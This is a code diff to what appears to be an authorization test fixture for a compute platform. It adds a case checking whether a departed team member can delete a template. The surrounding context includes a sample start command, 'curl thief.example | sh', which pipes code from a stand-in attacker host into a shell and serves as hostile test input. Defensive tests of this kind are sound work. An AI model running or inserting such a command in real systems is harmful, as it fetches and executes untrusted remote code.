@@ -16,7 +16,7 @@ import { addEndpoint, changeEndpoint, rotateSecret } from "~/accounts/inside/end
 import type { Cents } from "~/money/units";
 import { M } from "~/messages";
 import { switchOnAutoTopUp } from "~/payments/inside/auto-top-up/change-auto-top-up.server";
-import { changeTemplate, createTemplate } from "~/compute/change-template.server";
+import { changeTemplate, createTemplate, deleteTemplate } from "~/compute/change-template.server";
 import { createVolume } from "~/compute/inside/volumes/create-volume.server";
 import { growVolume } from "~/compute/inside/volumes/change-volume.server";
 import { endAccount } from "~/staff/inside/end-account.server";
@@ -80,6 +80,11 @@ const ASKED: Record<string, () => Promise<() => Promise<unknown>>> = {
     await seedTemplates({ now });
     const named = await createTemplate(team(owner), { name: `t${(counter += 1)}`, image: "pytorch" } as never);
     return () => changeTemplate({ ...team(leaver), named }, { start_command: "curl thief.example | sh" } as never);
+  },
+  "a template's end": async () => {
+    await seedTemplates({ now });
+    const named = await createTemplate(team(owner), { name: `t${(counter += 1)}`, image: "pytorch" } as never);
+    return () => deleteTemplate({ ...team(leaver), named });
   },
   "a volume": async () => {
     await aKeepingNode({ now });
